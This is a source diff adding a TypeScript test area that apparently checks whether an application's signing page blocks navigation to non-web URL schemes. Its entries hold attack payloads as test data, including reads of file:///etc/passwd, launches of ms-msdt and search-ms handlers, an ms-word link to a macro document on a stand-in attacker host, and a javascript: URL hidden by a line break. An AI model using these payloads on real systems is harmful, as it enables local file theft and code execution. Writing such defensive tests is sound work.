@@ -1,0 +1,78 @@
+/** Addresses that aren't of the web: files, programs, the application's own pages, the browser's. */
+import type { Area } from '../attack.ts'
+import { frame, loads, refusedBy } from './scripts.ts'
+
+export const schemes: Area = {
+  title: 'Schemes other than the web’s',
+  about:
+    'An address may name a file, a program of the system, our own pages or something that the page has made itself. A document may only come from the signing service.',
+  by: 'signing page',
+  guard: ['ground', 'request'],
+  attacks: [
+    { name: 'show a file of this computer', script: 'location = "file:///etc/passwd"' },
+    { name: 'show a file of another computer', script: 'location = "file://server.example/share/a"' },
+    { name: 'show our own pages', script: 'location = "app://countersign/index.html"' },
+    { name: 'read our own pages', script: refusedBy('fetch("app://countersign/index.html")'), answers: 'refused' },
+    {
+      name: 'load a script of our own pages',
+      script: loads('script', 'e.src = "app://countersign/page.js"'),
+      answers: 'refused'
+    },
+    { name: 'run data as a page', script: 'location = "data:text/html,<h1>bank</h1>"' },
+    {
+      name: 'run a blob as a page',
+      script: 'location = URL.createObjectURL(new Blob(["<h1>bank</h1>"], { type: "text/html" }))',
+      told: 'isn’t a web page',
+      mayEndItself: true
+    },
+    { name: 'run a file of the page’s own file system', script: 'location = "filesystem:{here}/temporary/a.html"' },
+    { name: 'show the browser’s own pages', script: 'location = "chrome://gpu"' },
+    { name: 'show the browser’s crash page', script: 'location = "chrome://crash"' },
+    {
+      name: 'show the browser’s own files',
+      script: 'location = "chrome-extension://abcdefghijklmnopabcdefghijklmnop/a.html"',
+      mayEndItself: true
+    },
+    { name: 'show the source', script: 'location = "view-source:{here}/attack"' },
+    { name: 'show the developer tools', script: 'location = "devtools://devtools/bundled/inspector.html"' },
+    {
+      name: 'show an empty page',
+      script: 'location = "about:blank"',
+      guard: ['browser'],
+      contained: 'The page becomes empty; our frame and the way out stay.',
+      mayEndItself: true
+    },
+    { name: 'start the mail program', script: 'location = "mailto:ana@example.com"', told: 'isn’t a web page' },
+    { name: 'start the telephone', script: 'location = "tel:+431234567"', told: 'isn’t a web page' },
+    {
+      name: 'start a program of the system',
+      script: 'location = "ms-msdt:/id%20PCWDiagnostic"',
+      told: 'isn’t a web page'
+    },
+    {
+      name: 'start an office program with a file of elsewhere',
+      script: 'location = "ms-word:ofe|u|https://evil.example/a.docm"',
+      told: 'isn’t a web page'
+    },
+    { name: 'start a search that shows files of elsewhere', ...frame('search-ms:query=x'), told: 'isn’t a web page' },
+    {
+      name: 'start a program by opening a window',
+      script: 'window.open("ms-settings:privacy")',
+      guard: ['windows', 'ground'],
+      told: 'isn’t a web page'
+    },
+    { name: 'read a file of this computer', script: refusedBy('fetch("file:///etc/passwd")'), answers: 'refused' },
+    {
+      name: 'load a picture of this computer',
+      script: loads('img', 'e.src = "file:///usr/share/pixmaps/debian-logo.png"'),
+      answers: 'refused'
+    },
+    { name: 'fetch by the old protocol', script: 'location = "ftp://{elsewhere}/"', told: 'isn’t a web page' },
+    {
+      name: 'hide a script behind a line break',
+      script:
+        'const a = document.createElement("a"); a.href = "java\\nscript:window.owned=1"; a.target = "_blank"; document.body.append(a); a.click()',
+      guard: ['windows']
+    }
+  ]
+}
